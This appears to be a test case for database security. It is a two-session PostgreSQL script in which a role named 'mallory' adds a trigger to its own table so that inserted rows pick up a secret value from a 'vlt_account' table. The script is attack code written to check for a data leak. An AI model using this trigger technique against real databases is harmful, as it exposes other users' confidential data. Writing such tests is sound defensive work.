-- Gives an own table a trigger while an insert waits for that table.
-- wants: read
-- attack:
-- session: first
CREATE FUNCTION tell() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN
  NEW.v := (SELECT secret FROM vlt_account WHERE id = 1); RETURN NEW; END$$;
BEGIN;
CREATE TRIGGER t BEFORE INSERT ON mallory_own FOR EACH ROW EXECUTE FUNCTION tell();
-- session: writer
-- without waiting
INSERT INTO mallory_own VALUES (100, 'x') RETURNING v;
-- session: first
SELECT pg_sleep(0.3);
COMMIT;
